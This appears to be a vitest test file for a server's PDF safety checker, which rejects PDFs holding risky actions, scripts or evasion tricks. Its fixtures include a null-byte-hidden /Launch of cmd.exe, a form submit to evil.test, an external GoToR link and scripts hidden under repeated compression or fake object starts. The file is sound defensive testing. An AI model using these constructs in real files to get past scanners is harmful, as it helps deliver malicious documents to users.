import { deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFString } from 'pdf-lib'
import { expect, test } from 'vitest'
import { pdf } from '../../../src/server/modules/files/examination/pdf.ts'
import { partSize } from '../../../src/server/modules/files/examination/pdf-streams.ts'

const file = (...parts: (string | Uint8Array)[]) =>
  Buffer.concat(
    ['%PDF-1.7\n', ...parts].map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)),
  )

const object = (dictionary: string) => file(`1 0 obj\n<< ${dictionary} >>\nendobj\n%%EOF`)

/** Returns a PDF stream with this dictionary, start and content. */
const stream = (dictionary: string, content: Uint8Array | string, word = 'stream\n') =>
  file(`1 0 obj\n${dictionary}${word}`, content, '\nendstream\nendobj\n%%EOF')

const script = '1 0 << /S /JavaScript /JS (app.alert(1)) >>'
const objects = '<< /Type /ObjStm /N 1 /First 4 /Length 99 /Filter /FlateDecode >>\n'
const packed = deflateSync(script)

test.each([
  ['opens an external file', object('/A << /S /GoToR /F (//evil/share.pdf) >>')],
  ['opens an embedded file', object('/A << /S /GoToE /T << /N (a) >> >>')],
  ['has an action on opening a page', object('/AA << /O 5 0 R >>')],
  ['has an action on opening a page, by reference', object('/AA 5 0 R')],
  ['has an action on opening a page, behind a comment', object('/AA %\n5 0 R')],
  ['contains an undeclared file', object('/Type /Filespec /EF << /F 5 0 R >>')],
  ['contains an attachment on a page', object('/Subtype /FileAttachment')],
  ['plays a video', object('/A << /S /Rendition >>')],
  ['submits a form', object('/A << /S /SubmitForm /F (https://evil.test) >>')],
  ['imports form data', object('/A << /S /ImportData >>')],
  ['ends a name with a null byte', object('/S /Launch\0/F (cmd.exe)')],
  [
    'compresses a script twice',
    stream('<< /Length 9 /Filter [/FlateDecode /FlateDecode] >>\n', deflateSync(packed)),
  ],
  ['compresses objects twice', stream(objects.replace('/FlateDecode', '[/FlateDecode /FlateDecode]'), 'x')],
  [
    'is compressed five times',
    stream(
      '<< >>',
      [1, 2, 3, 4].reduce((bytes) => deflateSync(bytes), packed),
    ),
  ],
  ['starts a stream with a carriage return', stream(objects, packed, 'stream\r')],
  ['starts a stream with spaces', stream(objects, packed, 'stream  \t\r\n')],
  ['compresses a script in a picture', stream('<< /Subtype /Image >>\n', packed)],
  ['escapes the name of compressed objects', stream(objects.replace('ObjStm', 'Obj#53tm'), 'x')],
  ['references the filter of its objects', stream(objects.replace('/FlateDecode', '7 0 R'), 'x')],
  ['compresses objects with a predictor', stream(objects.replace('/N', '/DecodeParms 7 0 R /N'), 'x')],
  [
    'imitates the start of an object in a string',
    stream(objects.replace('/Type', '/DP 7 0 R /Title (\n1 0 obj<<) /Type'), 'x'),
  ],
  [
    'imitates the start of an object in a comment',
    stream(objects.replace('/Type', '/DP 7 0 R %1 0 obj<<\n /Type'), 'x'),
  ],
  [
    'imitates the start of a stream in a string',
    stream(objects.replace('/N', '/X (>>stream\n) /DP 7 0 R /N'), 'x'),
  ],
  ['has an index of compressed objects with another filter', object('/Type /XRef /Filter /ASCIIHexDecode')],
  ['has a script far into a compressed stream', stream(objects, deflateSync(' '.repeat(1_000_000) + script))],
])('a PDF that %s is rejected', async (_what, bytes) => {
  expect(await pdf(bytes)).toEqual({ refused: 'file_unsafe' })
})

test('a script across the boundary of two decompressed chunks is detected', async () => {
  for (let before = partSize - 30; before < partSize; before += 1)
    expect(await pdf(stream('<< >>', deflateSync(' '.repeat(before) + script)))).toEqual({
      refused: 'file_unsafe',
    })
})

test.each([
  ['with a plain index', object('/Encrypt 5 0 R')],
  ['with a compressed index', object('/Type /XRef /Encrypt 5 0 R')],
])('a PDF that is encrypted, %s, is rejected as encrypted', async (_what, bytes) => {
  expect(await pdf(bytes)).toEqual({ refused: 'file_encrypted' })
})

/** The notations of dictionaries of compressed objects in real programs. */
test.each([
  ['Acrobat', '<</Filter/FlateDecode/First 17/Length 99/N 3/Type/ObjStm>>'],
  ['Word', '<</Type/ObjStm/N 14/First 90/Filter/FlateDecode/Length 370>>\r\n'],
  ['pdfTeX', '<<\n/Type /ObjStm\n/N 100\n/First 808\n/Length 1200      \n/Filter /FlateDecode\n>>\n'],
  ['qpdf', '<< /Type /ObjStm /Length 100 /N 2 /First 10 /Filter /FlateDecode >>\n'],
  ['iText', '<</Type/ObjStm/N 2/First 10/Length 12 0 R/Filter[/FlateDecode]/Extends 7 0 R>>'],
])('a PDF as compressed by %s is accepted', async (_who, dictionary) => {
  expect(await pdf(stream(dictionary, deflateSync('1 0 << /Type /Page >>')))).toEqual({})
})

test('a PDF with a link, a picture and compressed objects is accepted', async () => {
  const document = await PDFDocument.create()
  const page = document.addPage()
  page.drawText('Transferencia realizada. JavaScript /AA /EF')
  const link = document.context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [0, 0, 100, 20],
    A: { S: 'URI', URI: PDFString.of('https://banco.example') },
  })
  page.node.set(PDFName.of('Annots'), document.context.obj([link]))
  for (const useObjectStreams of [true, false])
    expect(await pdf(await document.save({ useObjectStreams }))).toEqual({})
})

test('a PDF may open at one of its own pages', async () => {
  expect(await pdf(object('/OpenAction << /S /GoTo /D [3 0 R /FitH 700] >>'))).toEqual({})
})
